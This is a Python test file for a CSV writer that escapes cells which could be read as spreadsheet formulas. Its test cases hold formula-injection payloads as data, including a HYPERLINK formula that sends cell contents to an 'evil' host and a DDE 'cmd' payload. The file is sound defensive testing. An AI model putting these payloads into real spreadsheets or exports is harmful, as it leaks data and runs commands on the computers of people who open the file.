"""CSV that a spreadsheet shows as it is written."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tesk.spreadsheet import FORMULA, csv_text


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("ann", "ann"),
        ("", ""),
        ("a=b", "a=b"),
        ("o'neil", "o'neil"),
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("+1", "'+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        (" =1", "' =1"),
        ("\t=1", "'\t=1"),
        ("\r\n=1", "'\r\n=1"),
        ("＝1", "'＝1"),
        ("a\n=1", "a\n=1"),
        ("a;=1", "a;=1"),
        ('a","=1', 'a","=1'),
    ],
)
def test_a_text_that_could_be_a_formula_is_text(name: str, cell: str) -> None:
    assert cells(csv_text(["name", "size"], [[name, 7]])) == [["name", "size"], [cell, "7"]]


def test_every_text_is_quoted_and_no_number_is() -> None:
    assert csv_text(["name", "size", "hours"], [["a;=1", 7, 0.5]]) == '"name","size","hours"\r\n"a;=1",7,0.5\r\n'


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]))))
def test_no_cell_begins_as_a_formula_and_none_becomes_two(names: list[str]) -> None:
    written = csv_text(["name", "size"], [[name, 7] for name in names])
    found = [row[0] for row in cells(written)[1:]]
    assert [cell.removeprefix("'") for cell in found] == [name.removeprefix("'") for name in names]
    assert not [cell for cell in found if cell[:1] in FORMULA and cell]
